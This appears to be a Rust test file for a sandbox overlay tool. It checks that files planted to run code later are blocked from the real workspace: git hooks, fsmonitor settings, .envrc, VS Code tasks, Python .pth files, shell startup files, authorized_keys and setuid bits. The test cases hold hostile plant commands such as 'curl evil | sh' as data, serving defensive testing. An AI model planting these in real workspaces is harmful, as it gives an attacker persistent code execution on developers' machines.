//! Code-running plants (issue 9 item 5), through real overlay upper layers:
//! every entry of `PLANTS` is planted by a command, must be blocked under
//! that entry's name and must not reach the workspace; every `NOT_PLANTS`
//! example must apply. A test fails when an entry has no case here.

use std::collections::BTreeSet;
use std::process::Command;

use retie_snapshot::{
    apply, ApplyOptions, BlockReason, Changeset, ComputeOptions, NOT_PLANTS, PLANTS,
};

use crate::common::{assert_tree, base_tree, tree, Env};

struct Case {
    /// The `PLANTS` entry expected.
    plant: &'static str,
    /// The workspace is a home directory.
    home: bool,
    /// sh run in the real workspace before the command (the lower).
    lower: &'static str,
    /// sh run in the overlay (the sandboxed command).
    ops: &'static str,
    /// Paths that must be blocked with `plant`'s name.
    blocked: &'static [&'static str],
}

const CASES: &[Case] = &[
    Case {
        plant: "git_hooks",
        home: false,
        lower: "",
        ops: "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-push; chmod +x .git/hooks/pre-push",
        blocked: &[".git/hooks/pre-push"],
    },
    Case {
        // Making an inert hook executable activates it.
        plant: "git_hooks",
        home: false,
        lower: "printf '#!/bin/sh\\n' > .git/hooks/pre-commit; chmod 644 .git/hooks/pre-commit",
        ops: "chmod 755 .git/hooks/pre-commit",
        blocked: &[".git/hooks/pre-commit"],
    },
    Case {
        plant: "git_config",
        home: false,
        lower: "",
        ops: "printf '[core]\\n\\tfsmonitor = \"curl evil | sh\"\\n' >> .git/config; \
              echo ../../elsewhere > .git/commondir",
        blocked: &[".git/config", ".git/commondir"],
    },
    Case {
        plant: "git_submodule_dir",
        home: false,
        lower: "mkdir -p .git/modules/sub/hooks; echo 'ref: refs/heads/main' > .git/modules/sub/HEAD; \
                printf '[core]\\n' > .git/modules/sub/config",
        ops: "printf '#!/bin/sh\\ncurl evil\\n' > .git/modules/sub/hooks/post-checkout; \
              printf '\\tfsmonitor = \"curl evil | sh\"\\n' >> .git/modules/sub/config",
        blocked: &[
            ".git/modules/sub/hooks/post-checkout",
            ".git/modules/sub/config",
        ],
    },
    Case {
        plant: "git_worktree_dir",
        home: false,
        lower: "",
        ops: "mkdir -p .git/worktrees/wt; \
              printf '[core]\\n\\tfsmonitor = evil\\n' > .git/worktrees/wt/config.worktree",
        blocked: &[".git/worktrees/wt/config.worktree"],
    },
    Case {
        plant: "git_file",
        home: false,
        lower: "",
        ops: "mkdir -p vendor/x; echo 'gitdir: ../../planted' > vendor/x/.git",
        blocked: &["vendor/x/.git"],
    },
    Case {
        // A bare repository planted whole: HEAD, config and hooks are new.
        plant: "git_dir_anywhere",
        home: false,
        lower: "",
        ops: "mkdir -p evil/objects evil/refs evil/hooks; echo 'ref: refs/heads/main' > evil/HEAD; \
              printf '[core]\\n\\tbare = true\\n\\tfsmonitor = \"curl evil | sh\"\\n' > evil/config; \
              printf '#!/bin/sh\\n' > evil/hooks/post-update",
        blocked: &["evil/config", "evil/hooks", "evil/hooks/post-update"],
    },
    Case {
        // HEAD already in the real workspace; only config is planted.
        plant: "git_dir_anywhere",
        home: false,
        lower: "mkdir -p data/repo; echo 'ref: refs/heads/main' > data/repo/HEAD",
        ops: "printf '[core]\\n\\thooksPath = /tmp/h\\n' > data/repo/config",
        blocked: &["data/repo/config"],
    },
    Case {
        // The same plant over two runs: config (no HEAD beside it, so an
        // ordinary file) applied by an earlier run, HEAD by this one.
        plant: "git_dir_completed",
        home: false,
        lower: "mkdir -p sub/objects sub/refs; \
                printf '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = \"touch pwned\"\\n' > sub/config",
        ops: "echo 'ref: refs/heads/main' > sub/HEAD",
        blocked: &["sub/HEAD"],
    },
    Case {
        // Three runs: config, then HEAD as a directory (no HEAD file, so no
        // git dir), then the directory replaced by the file (an attack
        // pass went through this way).
        plant: "git_dir_completed",
        home: false,
        lower: "mkdir -p evil/objects evil/refs/heads evil/HEAD; \
                printf '[core]\\n\\tworktree = ..\\n\\tfsmonitor = \"touch pwned\"\\n' > evil/config",
        ops: "rmdir evil/HEAD; echo 'ref: refs/heads/main' > evil/HEAD",
        blocked: &["evil/HEAD"],
    },
    Case {
        // The repository keeps its hooks in the workspace (husky's
        // core.hooksPath): a hook written there runs on the next commit.
        plant: "git_hooks_path",
        home: false,
        lower: "mkdir -p .git; echo 'ref: refs/heads/main' > .git/HEAD; \
                printf '[core]\\n\\thooksPath = .husky/_\\n' > .git/config",
        ops: "mkdir -p .husky/_; printf '#!/bin/sh\\ntouch pwned\\n' > .husky/_/pre-commit",
        blocked: &[".husky/_", ".husky/_/pre-commit"],
    },
    Case {
        // A directory above the hooks directory replaced by a symlink to
        // hooks of the command's making (a review found this way round).
        plant: "git_hooks_path",
        home: false,
        lower: "mkdir -p .git; echo 'ref: refs/heads/main' > .git/HEAD; \
                printf '[core]\\n\\thooksPath = tools/hooks\\n' > .git/config",
        ops: "mkdir -p evil/hooks; printf '#!/bin/sh\\ntouch pwned\\n' > evil/hooks/pre-commit; \
              ln -s evil tools",
        blocked: &["tools"],
    },
    Case {
        // The repository's config includes a file in the workspace.
        plant: "git_config_include",
        home: false,
        lower: "mkdir -p .git; echo 'ref: refs/heads/main' > .git/HEAD; \
                printf '[include]\\n\\tpath = ../team.gitconfig\\n' > .git/config",
        ops: "printf '[core]\\n\\tfsmonitor = \"touch pwned\"\\n' > team.gitconfig",
        blocked: &["team.gitconfig"],
    },
    Case {
        // A rebase in progress whose todo runs a command at --continue.
        plant: "git_sequencer",
        home: false,
        lower: "mkdir -p .git",
        ops: "mkdir -p .git/rebase-merge; echo 'exec touch pwned' > .git/rebase-merge/git-rebase-todo",
        blocked: &[".git/rebase-merge", ".git/rebase-merge/git-rebase-todo"],
    },
    Case {
        plant: "mise_config",
        home: false,
        lower: "",
        ops: "printf '[hooks]\\nenter = \"touch pwned\"\\n' > mise.toml",
        blocked: &["mise.toml"],
    },
    Case {
        plant: "emacs_dir_locals",
        home: false,
        lower: "",
        ops: "echo '((nil . ((eval . (shell-command \"touch pwned\")))))' > .dir-locals.el",
        blocked: &[".dir-locals.el"],
    },
    Case {
        plant: "tool_user_config",
        home: true,
        lower: "",
        ops: "mkdir -p .aws .gnupg; printf '[default]\\ncredential_process = touch pwned\\n' > .aws/config; \
              echo 'pinentry-program /tmp/evil' > .gnupg/gpg-agent.conf",
        blocked: &[".aws/config", ".gnupg", ".gnupg/gpg-agent.conf"],
    },
    Case {
        plant: "hg_config",
        home: false,
        lower: "",
        ops: "mkdir -p r/.hg; printf '[hooks]\\nupdate = curl evil | sh\\n' > r/.hg/hgrc",
        blocked: &["r/.hg/hgrc"],
    },
    Case {
        plant: "direnv_envrc",
        home: false,
        lower: "",
        ops: "echo 'curl evil | sh' > .envrc; mkdir -p dir/sub; echo x > dir/sub/.envrc",
        blocked: &[".envrc", "dir/sub/.envrc"],
    },
    Case {
        // Made in a scratch directory, then renamed into place.
        plant: "vscode_tasks",
        home: false,
        lower: "",
        ops: "mkdir scratch; echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > scratch/tasks.json; \
              mv scratch .vscode",
        blocked: &[".vscode/tasks.json"],
    },
    Case {
        // A symlinked .vscode leads to an innocently named tasks file.
        plant: "vscode_tasks",
        home: false,
        lower: "",
        ops: "mkdir cfg; echo '{}' > cfg/tasks.json; ln -s cfg .vscode",
        blocked: &[".vscode"],
    },
    Case {
        plant: "vscode_settings",
        home: false,
        lower: "",
        ops: "mkdir -p .vscode; echo '{\"git.path\": \"./evil\"}' > .vscode/settings.json",
        blocked: &[".vscode/settings.json"],
    },
    Case {
        plant: "cargo_project_config",
        home: false,
        lower: "",
        ops: "mkdir -p .cargo; printf '[build]\\nrustc-wrapper = \"./evil\"\\n[target.x86_64-unknown-linux-gnu]\\nrunner = \"./evil\"\\n' > .cargo/config.toml",
        blocked: &[".cargo/config.toml"],
    },
    Case {
        plant: "python_startup_hooks",
        home: false,
        lower: "mkdir -p .venv/lib/python3.12/site-packages",
        ops: "echo 'import os; os.system(\"curl evil | sh\")' > .venv/lib/python3.12/site-packages/zz.pth; \
              echo 'import os' > .venv/lib/python3.12/site-packages/sitecustomize.py; \
              echo 'x = 1' > .venv/lib/python3.12/site-packages/ok.py",
        blocked: &[
            ".venv/lib/python3.12/site-packages/sitecustomize.py",
            ".venv/lib/python3.12/site-packages/zz.pth",
        ],
    },
    Case {
        plant: "devcontainer",
        home: false,
        lower: "",
        ops: "mkdir -p .devcontainer; echo '{\"initializeCommand\": \"curl evil | sh\"}' > .devcontainer/devcontainer.json",
        blocked: &[".devcontainer/devcontainer.json"],
    },
    Case {
        plant: "vscode_code_workspace",
        home: false,
        lower: "",
        ops: "echo '{\"settings\": {\"terminal.integrated.env.linux\": {\"LD_PRELOAD\": \"./e.so\"}}}' > p.code-workspace",
        blocked: &["p.code-workspace"],
    },
    Case {
        plant: "zed_project_settings",
        home: false,
        lower: "",
        ops: "mkdir -p .zed; echo '{\"terminal\": {\"shell\": {\"program\": \"./evil\"}}}' > .zed/settings.json",
        blocked: &[".zed/settings.json"],
    },
    Case {
        plant: "helix_project_config",
        home: false,
        lower: "",
        ops: "mkdir -p .helix; printf '[language-server.rust-analyzer]\\ncommand = \"./evil\"\\n' > .helix/languages.toml",
        blocked: &[".helix/languages.toml"],
    },
    Case {
        plant: "npm_project_config",
        home: false,
        lower: "",
        ops: "echo 'node-options=--require ./evil.js' > .npmrc; echo 'yarnPath: ./evil.js' > .yarnrc.yml",
        blocked: &[".npmrc", ".yarnrc.yml"],
    },
    Case {
        plant: "idea_workspace",
        home: false,
        lower: "",
        ops: "mkdir -p .idea; echo '<project/>' > .idea/workspace.xml",
        blocked: &[".idea/workspace.xml"],
    },
    Case {
        plant: "vim_local_rc",
        home: false,
        lower: "",
        ops: "echo '!curl evil' > .exrc; echo 'os.execute(\"x\")' > .nvim.lua",
        blocked: &[".exrc", ".nvim.lua"],
    },
    Case {
        plant: "pre_commit_config",
        home: false,
        lower: "",
        ops: "printf 'repos:\\n- repo: local\\n  hooks:\\n  - id: x\\n    entry: curl evil\\n' > .pre-commit-config.yaml",
        blocked: &[".pre-commit-config.yaml"],
    },
    Case {
        plant: "setid",
        home: false,
        lower: "",
        ops: "cp script.sh tool; chmod 4755 tool; chmod 2755 script.sh; mkdir shared; chmod 2775 shared",
        blocked: &["tool", "script.sh", "shared"],
    },
    Case {
        plant: "shell_startup",
        home: true,
        lower: "echo '# mine' > .bashrc",
        ops: "echo 'curl evil | sh' >> .bashrc; echo x > .zshenv; mkdir -p .config/fish; \
              echo x > .config/fish/config.fish",
        blocked: &[".bashrc", ".zshenv", ".config/fish/config.fish"],
    },
    Case {
        plant: "ssh",
        home: true,
        lower: "",
        ops: "mkdir -p .ssh; echo 'ssh-ed25519 AAAA evil' >> .ssh/authorized_keys",
        blocked: &[".ssh", ".ssh/authorized_keys"],
    },
    Case {
        plant: "git_user_config",
        home: true,
        lower: "",
        ops: "printf '[core]\\n\\tfsmonitor = evil\\n' > .gitconfig",
        blocked: &[".gitconfig"],
    },
    Case {
        plant: "session_autostart",
        home: true,
        lower: "",
        ops: "mkdir -p .config/autostart .config/systemd/user; echo '[Desktop Entry]' > .config/autostart/x.desktop; \
              echo '[Service]' > .config/systemd/user/x.service",
        blocked: &[".config/autostart/x.desktop", ".config/systemd/user/x.service"],
    },
    Case {
        plant: "user_path_bin",
        home: true,
        lower: "",
        ops: "mkdir -p .local/bin; printf '#!/bin/sh\\n' > .local/bin/git; chmod +x .local/bin/git",
        blocked: &[".local/bin/git"],
    },
    Case {
        plant: "python_user_site",
        home: true,
        lower: "",
        ops: "mkdir -p .local/lib/python3.12/site-packages; \
              echo 'import subprocess' > .local/lib/python3.12/site-packages/json.py",
        blocked: &[".local/lib/python3.12/site-packages/json.py"],
    },
    Case {
        plant: "editor_user_config",
        home: true,
        lower: "",
        ops: "mkdir -p .config/nvim; echo 'os.execute(\"x\")' > .config/nvim/init.lua",
        blocked: &[".config/nvim/init.lua"],
    },
    Case {
        plant: "direnv_user",
        home: true,
        lower: "",
        ops: "mkdir -p .config/direnv; echo 'curl evil' > .config/direnv/direnvrc",
        blocked: &[".config/direnv/direnvrc"],
    },
];

/// (home, lower, ops, the `NOT_PLANTS` path it exercises): applied unblocked.
const APPLIED: &[(bool, &str, &str, &str)] = &[
    (
        false,
        "",
        "mkdir -p .git/info; echo '* diff=x' > .git/info/attributes",
        ".git/info/attributes",
    ),
    (
        false,
        "",
        "printf '[submodule \"s\"]\\n\\tpath = s\\n' > .gitmodules",
        ".gitmodules",
    ),
    (false, "", "echo 'KEY=value' > .env", ".env"),
    (
        false,
        "",
        "mkdir -p .vscode; echo '{}' > .vscode/launch.json",
        ".vscode/launch.json",
    ),
    (
        false,
        "",
        "mkdir -p .idea/runConfigurations; echo '<c/>' > .idea/runConfigurations/App.xml",
        ".idea/runConfigurations/App.xml",
    ),
    (
        false,
        "printf '#!/bin/sh\\n' > .git/hooks/pre-commit; printf 'x\\n' > .envrc",
        "rm .git/hooks/pre-commit .envrc",
        ".git/hooks/pre-commit",
    ),
    // Home entries apply only to a home workspace.
    (
        false,
        "",
        "echo 'alias x=y' >> .bashrc; mkdir -p .ssh; echo k > .ssh/authorized_keys",
        "",
    ),
];

fn sh(dir: &std::path::Path, script: &str) {
    if script.is_empty() {
        return;
    }
    let o = Command::new("sh")
        .args(["-ec", script])
        .current_dir(dir)
        .output()
        .expect("spawn sh");
    assert!(
        o.status.success(),
        "lower set-up failed:\n{script}\n{}",
        String::from_utf8_lossy(&o.stderr)
    );
}

#[test]
fn every_plant_is_blocked_and_never_reaches_the_workspace() {
    let mut failures = String::new();
    for (i, case) in CASES.iter().enumerate() {
        let env = Env::new();
        base_tree(&env.ws);
        sh(&env.ws, case.lower);
        let before = tree(&env.ws);
        let ops = format!("{}\necho ok > fine.txt", case.ops);
        let (upper, _) = env.overlay(&format!("ovl{i}"), &ops);
        let opts = ComputeOptions {
            home_workspace: case.home,
            ..ComputeOptions::default()
        };
        let cs = Changeset::compute_with(&env.ws, &upper, &opts).expect("compute");
        let label = format!("{} (case {i})", case.plant);
        for p in case.blocked {
            let got = cs.blocked.iter().find(|b| b.change.path.as_str() == *p);
            match got.map(|b| &b.reason) {
                Some(BlockReason::Plant(n)) if n == case.plant => {}
                other => failures += &format!("  {label}: {p}: blocked as {other:?}\n"),
            }
        }
        if let Some(c) = cs
            .changes
            .iter()
            .find(|c| case.blocked.contains(&c.path.as_str()))
        {
            failures += &format!("  {label}: {} is applicable\n", c.path);
        }
        let (ws, store, journal) = env.open();
        apply(&cs, &ws, &store, &journal, &ApplyOptions::default()).expect("apply");
        let after = tree(&env.ws);
        if !after.contains_key("fine.txt") {
            failures += &format!("  {label}: the ordinary change was not applied\n");
        }
        for p in case.blocked {
            // Neither the plant nor anything beneath it reached the workspace.
            let prefix = format!("{p}/");
            let pick = |t: &crate::common::Tree| {
                t.iter()
                    .filter(|(k, _)| k.as_str() == *p || k.starts_with(&prefix))
                    .map(|(k, v)| (k.clone(), v.clone()))
                    .collect::<crate::common::Tree>()
            };
            if pick(&before) != pick(&after) {
                failures += &format!(
                    "  {label}: {p} reached the workspace: {:?} -> {:?}\n",
                    pick(&before),
                    pick(&after)
                );
            }
        }
    }
    assert!(failures.is_empty(), "plants not blocked:\n{failures}");
}

#[test]
fn every_plant_entry_has_an_overlay_case() {
    let covered: BTreeSet<&str> = CASES.iter().map(|c| c.plant).collect();
    let missing: Vec<&str> = PLANTS
        .iter()
        .map(|p| p.name)
        .filter(|n| !covered.contains(n))
        .collect();
    assert!(missing.is_empty(), "entries without a case: {missing:?}");
    let unknown: Vec<&str> = CASES
        .iter()
        .map(|c| c.plant)
        .filter(|n| retie_snapshot::plants::plant(n).is_none())
        .collect();
    assert!(unknown.is_empty(), "cases for no entry: {unknown:?}");
    let covered: BTreeSet<&str> = APPLIED.iter().map(|a| a.3).collect();
    let missing: Vec<&str> = NOT_PLANTS
        .iter()
        .map(|p| p.path)
        .filter(|p| !covered.contains(p))
        .collect();
    assert!(missing.is_empty(), "NOT_PLANTS without a case: {missing:?}");
}

#[test]
fn considered_and_not_plants_apply_unblocked() {
    for (i, (home, lower, ops, what)) in APPLIED.iter().enumerate() {
        let env = Env::new();
        base_tree(&env.ws);
        sh(&env.ws, lower);
        let (upper, merged) = env.overlay(&format!("ovl{i}"), ops);
        let opts = ComputeOptions {
            home_workspace: *home,
            ..ComputeOptions::default()
        };
        let cs = Changeset::compute_with(&env.ws, &upper, &opts).expect("compute");
        assert!(cs.blocked.is_empty(), "{what:?}: blocked {:?}", cs.blocked);
        assert!(!cs.changes.is_empty(), "{what:?}: no change");
        let (ws, store, journal) = env.open();
        apply(&cs, &ws, &store, &journal, &ApplyOptions::default()).expect("apply");
        assert_tree(what, &tree(&merged), &tree(&env.ws));
    }
}

#[test]
fn a_whole_new_git_dir_is_caught_and_applies_only_when_allowed() {
    // `.git` created as a new directory (git init in a fresh checkout).
    let env = Env::new();
    base_tree(&env.ws);
    let (upper, merged) = env.overlay(
        "ovl",
        "mkdir -p proj/.git/hooks proj/.git/objects; echo 'ref: refs/heads/main' > proj/.git/HEAD; \
         printf '[core]\\n\\tfsmonitor = evil\\n' > proj/.git/config; \
         printf '#!/bin/sh\\n' > proj/.git/hooks/post-checkout",
    );
    let cs = Changeset::compute(&env.ws, &upper).expect("compute");
    let blocked: Vec<_> = cs
        .blocked
        .iter()
        .map(|b| (b.change.path.to_string(), b.reason.clone()))
        .collect();
    let plant = |n: &str| BlockReason::Plant(n.to_owned());
    for (p, r) in [
        ("proj/.git/config", plant("git_config")),
        ("proj/.git/hooks", plant("git_hooks")),
        ("proj/.git/hooks/post-checkout", plant("git_hooks")),
        // A new HEAD beside a new config: the whole git dir waits for
        // consent, not a HEAD that a later run's config would complete.
        ("proj/.git/HEAD", plant("git_dir_completed")),
    ] {
        assert!(
            blocked.contains(&(p.to_owned(), r.clone())),
            "{p} not blocked as {r:?}: {blocked:?}"
        );
    }
    let (ws, store, journal) = env.open();
    apply(&cs, &ws, &store, &journal, &ApplyOptions::default()).expect("apply");
    assert!(env.ws.join("proj/.git/objects").exists());
    assert!(!env.ws.join("proj/.git/HEAD").exists());
    assert!(!env.ws.join("proj/.git/config").exists());
    assert!(!env.ws.join("proj/.git/hooks").exists());
    let env2 = Env::new();
    base_tree(&env2.ws);
    let cs = Changeset::compute(&env2.ws, &upper).expect("compute");
    let (ws, store, journal) = env2.open();
    apply(
        &cs,
        &ws,
        &store,
        &journal,
        &ApplyOptions {
            allow_blocked: true,
            ..ApplyOptions::default()
        },
    )
    .expect("apply allowed");
    assert_tree("allowed", &tree(&merged), &tree(&env2.ws));
}
